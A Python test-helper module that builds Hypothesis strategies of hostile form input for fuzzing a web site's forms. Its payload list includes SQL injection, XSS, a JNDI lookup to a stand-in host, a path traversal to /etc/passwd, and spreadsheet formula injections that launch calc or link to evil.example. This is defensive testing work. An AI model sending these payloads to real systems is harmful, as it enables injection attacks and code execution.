"""Hostile input for tests/test_fuzz.py: what a careless spreadsheet, a pasted Word
document, a stale page or somebody poking at the forms sends.

Every strategy here yields plain strings (or lists of them), as a browser sends them:
a form field never carries anything else.
"""

from __future__ import annotations

import datetime as dt

from hypothesis import strategies as st

# Every code point a browser can send. Lone surrogates are left out: they cannot be
# encoded as UTF-8 at all, so no request can carry them.
ANY_CHAR = st.characters(exclude_categories=("Cs",))
CONTROL_CHAR = st.characters(min_codepoint=0, max_codepoint=0x1F) | st.sampled_from("\x7f\u0085\u2028\u2029")

XSS = '<script>alert("fuzz-xss")</script>'
XSS_ATTRIBUTE = '"><img src=x onerror=alert("fuzz-xss")>'

FRAGMENTS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\n",
    "\t",
    "\x0b\x0c",
    "%00",
    "' OR '1'='1",
    "'; DROP TABLE members_user; --",
    '" OR ""="',
    "1; SELECT pg_sleep(5)",
    XSS,
    XSS_ATTRIBUTE,
    "javascript:alert(1)",
    "{{ 7|add:7 }}",
    "{% debug %}",
    "${jndi:ldap://example.invalid/a}",
    "../../../../etc/passwd",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "null",
    "None",
    "undefined",
    "true",
    "on",
    "NaN",
    "-Infinity",
    "1e309",
    "-0",
    "0x1F",
    "1_000",
    "٣",  # an Arabic-Indic digit: int() reads it, a database does not
    "½",
    "²",
    "𝟗",
    "\u202eevil\u202c",  # right-to-left override
    "\ufeffBOM",
    "zero\u200bwidth",
    "Ǳemoji 👩🏽‍💻 ﷽",
    "e\u0301\u0301\u0301\u0301",
    "[]",
    "{}",
    "a" * 256,
]

MALFORMED_DATES = [
    "2026-02-30",
    "2026-13-01",
    "2026-00-10",
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "-2026-01-01",
    "2026-1-1",
    " 2026-01-01 ",
    "2026/01/01",
    "01/02/2026",
    "31.12.2026",
    "2026-01-01T25:61:00",
    "yesterday",
    "2026-01-01\x00",
]


def date_text(date: st.SearchStrategy[dt.date] | None = None) -> st.SearchStrategy[str]:
    """A date as text, in the formats forms and spreadsheets use, or malformed."""
    date = date or st.dates(min_value=dt.date(1, 1, 1), max_value=dt.date(9999, 12, 31))
    formats = st.sampled_from(["%Y-%m-%d", "%m/%d/%Y", "%d/%m/%Y", "%d.%m.%Y", "%Y%m%d", "%B %d, %Y"])
    return st.one_of(st.builds(lambda d, f: d.strftime(f), date, formats), st.sampled_from(MALFORMED_DATES))


def numbers() -> st.SearchStrategy[str]:
    """Numbers as text: out of every range, negative, fractional, not finite."""
    return st.one_of(
        st.integers(min_value=-(2**70), max_value=2**70),
        st.sampled_from([0, -1, 32767, 32768, 65536, 2**31, 2**63, 10**30]),
        st.floats(allow_nan=True, allow_infinity=True),
    ).map(str)


def long_text(min_size: int = 200, max_size: int = 10_000) -> st.SearchStrategy[str]:
    """A huge value, built by repetition: hypothesis cannot draw 10,000 characters one by one quickly."""
    return st.builds(
        lambda piece, n: (piece * n)[:n],
        st.text(ANY_CHAR, min_size=1, max_size=4),
        st.integers(min_value=min_size, max_value=max_size),
    )


HOSTILE_TEXT = st.one_of(
    st.sampled_from(FRAGMENTS),
    st.text(ANY_CHAR, max_size=40),
    st.text(CONTROL_CHAR, min_size=1, max_size=5),
    numbers(),
    date_text(),
    long_text(),
)


def plain_text(max_size: int = 40) -> st.SearchStrategy[str]:
    """What a member would type: letters, digits and spaces."""
    return st.text(
        st.characters(categories=("L", "N", "Zs"), exclude_characters="\x85\xa0", max_codepoint=0x2FF),
        min_size=1,
        max_size=max_size,
    ).filter(str.strip)


def some_of(values) -> st.SearchStrategy[list[str]]:
    """A multiple-choice field: a few of its values."""
    return st.lists(st.sampled_from(list(values)), min_size=1, max_size=4, unique=True)


# A field's name in a form: the client must be able to put it in a multipart body.
FIELD_NAME = st.from_regex(r"[A-Za-z_][A-Za-z0-9_\-\[\]\.]{0,15}", fullmatch=True)

MISSING = object()


@st.composite
def form_data(draw, fields: dict[str, st.SearchStrategy]) -> dict[str, str | list[str]]:
    """POST data for a form: each field plausible, or (for the fields drawn as hostile)
    missing, hostile, or sent several times; plus unknown extra fields.

    Which fields are hostile is drawn as a set, so that hypothesis reaches the
    form's accepted path often and shrinks a failure to the one field that causes it.
    """
    hostile = draw(st.sets(st.sampled_from(sorted(fields))) if fields else st.just(set()), label="hostile fields")
    data: dict[str, str | list[str]] = {}
    for name, plausible in fields.items():
        if name in hostile:
            value = draw(
                st.one_of(
                    st.just(MISSING),
                    HOSTILE_TEXT,
                    st.lists(st.one_of(plausible, HOSTILE_TEXT), min_size=2, max_size=3),
                ),
                label=name,
            )
        else:
            value = draw(plausible, label=name)
        if value is not MISSING:
            data[name] = value
    extra = draw(st.dictionaries(FIELD_NAME, HOSTILE_TEXT, max_size=2), label="extra fields")
    for name, value in extra.items():
        data.setdefault(name, value)
    return data
